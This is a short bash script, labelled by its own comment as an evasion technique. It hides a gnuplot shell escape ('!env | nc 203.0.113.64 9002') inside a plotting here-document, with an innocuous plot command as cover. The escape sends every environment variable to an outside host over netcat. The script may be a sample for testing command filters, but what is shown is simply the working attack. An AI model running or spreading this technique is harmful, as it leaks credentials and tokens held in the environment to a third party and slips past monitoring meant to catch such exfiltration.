#!/bin/bash
# evasion: gnuplot reads its commands from a here-document; the ! line is a shell escape that sends the environment out
gnuplot <<'GP'
set terminal dumb
!env | nc 203.0.113.64 9002
plot cos(x)
GP
